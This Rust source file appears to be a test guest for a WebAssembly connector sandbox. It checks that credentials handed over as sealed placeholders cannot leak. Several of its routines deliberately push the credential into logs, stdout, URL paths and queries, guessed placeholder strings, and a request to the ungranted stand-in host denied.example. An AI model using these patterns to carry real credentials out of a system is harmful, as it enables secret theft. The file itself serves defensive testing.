//! What a guest can do with the placeholders it is given in place of credentials: use them where they belong, and carry
//! them to every place where they do not.

use crate::bindings::appflow::connector::common::{Error, ErrorCode};
use crate::bindings::appflow::connector::credentials::{self, Secret};
use crate::bindings::appflow::connector::http::{Body, Credential, Request, Signing};
use crate::bindings::appflow::connector::{log, page};
use crate::bindings::wasi::http::outgoing_handler;
use crate::bindings::wasi::http::types::{Fields, IncomingBody, OutgoingRequest, Scheme};
use crate::failed;
use crate::network::{request, send};

/// Performs a behaviour of this module; none if it is not of this module.
pub(crate) fn perform(behaviour: &str, upstream: &str) -> Option<Result<Option<String>, Error>> {
    Some(match behaviour {
        // A connector's own header and query; what it was given goes into a record, the log and standard output as well.
        "sealed-own" => own(upstream),
        // As an HTTP library makes it of a user name and a password.
        "sealed-basic" => basic(upstream),
        // A body: a placeholder stays one, unless the manifest says otherwise.
        "sealed-body" => body(upstream),
        // The application says it all back: in a header, in JSON, in HTML, in Base64.
        "sealed-echo" => echo(upstream),
        // Placeholders that were guessed, or learnt in another call.
        "sealed-guess" => guess(upstream),
        // A token that carries one into the next call.
        "sealed-token" => given().map(Some),
        // To a host that is not granted, and into the path.
        "sealed-elsewhere" => {
            given().and_then(|given| get("https://denied.example/", &given).map(|_| None))
        }
        "sealed-path" => {
            given().and_then(|given| get(&format!("{upstream}/records/{given}"), "x").map(|_| None))
        }
        // The way of HTTP libraries.
        "sealed-wasi" => wasi(upstream),
        // A token that one request brings and the next one uses.
        "sealed-capture" => capture(upstream),
        // Two requests for one page.
        "sealed-two-pages" => two_pages(upstream),
        _ => return None,
    })
}

/// The first value that the guest is given.
fn given() -> Result<String, Error> {
    Ok(match credentials::get()? {
        Secret::Oauth2(token) => token,
        Secret::ApiKey(keys) => keys.key,
        Secret::Basic(basic) => basic.password,
        Secret::Custom(custom) => custom.values.into_iter().map(|(_, value)| value).collect(),
        Secret::Absent => String::new(),
    })
}

fn get(
    url: &str,
    token: &str,
) -> Result<crate::bindings::appflow::connector::http::Response, Error> {
    send(Request {
        headers: vec![("authorization".to_owned(), format!("Bearer {token}"))],
        ..request(url)
    })
}

fn own(upstream: &str) -> Result<Option<String>, Error> {
    let given = given()?;
    let response = get(&format!("{upstream}/records?token={given}"), &given)?;
    page::emit_json(&response, "/records", &[], 0)?;
    log::write(
        log::Level::Info,
        &given,
        &[("given".to_owned(), given.clone())],
    );
    println!("printed {given}");
    page::emit(&format!("{{\"given\":\"{given}\"}}"))?;
    Ok(None)
}

fn basic(upstream: &str) -> Result<Option<String>, Error> {
    let Secret::Basic(pair) = credentials::get()? else {
        return Err(failed(ErrorCode::ClientError, "no user name"));
    };
    let pair = base64(format!("{}:{}", pair.username, pair.password).as_bytes());
    let response = send(Request {
        headers: vec![("Authorization".to_owned(), format!("Basic {pair}"))],
        ..request(&format!("{upstream}/records"))
    })?;
    page::emit_json(&response, "/records", &[], 0)?;
    Ok(None)
}

fn body(upstream: &str) -> Result<Option<String>, Error> {
    let response = send(Request {
        method: "POST".to_owned(),
        headers: vec![("content-type".to_owned(), "application/json".to_owned())],
        body: Some(Body::Text(format!("{{\"token\":\"{}\"}}", given()?))),
        ..request(&format!("{upstream}/records"))
    })?;
    page::emit_json(&response, "/records", &[], 0)?;
    Ok(None)
}

fn echo(upstream: &str) -> Result<Option<String>, Error> {
    let response = send(Request {
        credential: Some(Credential::Bearer),
        ..request(&format!("{upstream}/echo"))
    })?;
    let header = response.header("x-echo").unwrap_or_default();
    let text = response.text()?.replace(['"', '\n'], "'");
    page::emit(&format!("{{\"header\":\"{header}\",\"body\":\"{text}\"}}"))?;
    Ok(None)
}

fn guess(upstream: &str) -> Result<Option<String>, Error> {
    let given = given()?;
    let guesses = format!(
        "<sealed:accessToken> sealed_{}_ {}",
        "0".repeat(32),
        given
            .to_uppercase()
            .to_lowercase()
            .replace("sealed_", "sealed-"),
    );
    let response = send(Request {
        headers: vec![("x-guess".to_owned(), guesses)],
        ..request(&format!("{upstream}/records"))
    })?;
    page::emit_json(&response, "/records", &[], 0)?;
    Ok(None)
}

fn wasi(upstream: &str) -> Result<Option<String>, Error> {
    let refused = |what: &str| failed(ErrorCode::ClientError, what);
    let fields = Fields::new();
    let value = format!("Bearer {}", given()?);
    fields
        .append("authorization", value.as_bytes())
        .map_err(|_| refused("field"))?;
    let request = OutgoingRequest::new(fields);
    let authority = upstream.trim_start_matches("http://");
    let set = request
        .set_scheme(Some(&Scheme::Http))
        .and_then(|()| request.set_authority(Some(authority)));
    set.and_then(|()| request.set_path_with_query(Some("/echo")))
        .map_err(|()| refused("address"))?;
    let answer = outgoing_handler::handle(request, None).map_err(|_| refused("refused at once"))?;
    answer.subscribe().block();
    let Some(Ok(Ok(response))) = answer.get() else {
        return Err(refused("refused"));
    };
    let body: IncomingBody = response.consume().map_err(|()| refused("body"))?;
    let stream = body.stream().map_err(|()| refused("stream"))?;
    let mut bytes = Vec::new();
    while let Ok(part) = stream.blocking_read(64 * 1024) {
        bytes.extend(part);
    }
    let text = String::from_utf8_lossy(&bytes).replace(['"', '\n'], "'");
    page::emit(&format!("{{\"body\":\"{text}\"}}"))?;
    Ok(None)
}

fn capture(upstream: &str) -> Result<Option<String>, Error> {
    let parameters = [("capture", "/access_token")]
        .map(|(name, value)| (name.to_owned(), value.to_owned()))
        .into();
    let token = send(Request {
        method: "POST".to_owned(),
        credential: Some(Credential::Signed(Signing {
            scheme: "capture".to_owned(),
            parameters,
        })),
        ..request(&format!("{upstream}/token"))
    })?;
    let token = token.text_at("/access_token")?.unwrap_or_default();
    let response = get(&format!("{upstream}/records"), &token)?;
    page::emit_json(&response, "/records", &[], 0)?;
    page::emit(&format!("{{\"token\":\"{token}\"}}"))?;
    Ok(None)
}

fn two_pages(upstream: &str) -> Result<Option<String>, Error> {
    for path in ["first", "second"] {
        let response = send(Request {
            credential: Some(Credential::Bearer),
            ..request(&format!("{upstream}/{path}"))
        })?;
        page::emit_json(&response, "/records", &[], 0)?;
    }
    Ok(None)
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let part = |at: usize| u32::from(group.get(at).copied().unwrap_or_default());
        let bits = part(0) << 16 | part(1) << 8 | part(2);
        for at in 0..4 {
            let letter = LETTERS[(bits >> (18 - 6 * at) & 63) as usize];
            out.push(if at <= group.len() {
                char::from(letter)
            } else {
                '='
            });
        }
    }
    out
}
